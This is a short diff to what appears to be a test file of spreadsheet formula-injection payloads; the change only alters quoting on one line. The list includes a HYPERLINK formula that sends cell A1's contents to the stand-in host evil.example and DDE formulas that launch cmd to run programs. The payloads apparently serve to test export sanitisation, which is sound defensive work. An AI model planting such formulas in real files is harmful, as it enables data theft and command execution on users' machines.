@@ -23,7 +23,7 @@ PLANNER = Principal("planner-li", Role.PLANNER)
 
 # one payload per lead character, each a real attack shape
 PAYLOADS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
     "=cmd|' /C calc'!A0",
     "+1+cmd|' /C notepad'!A0",
     "-2+3+cmd|' /C calc'!A0",
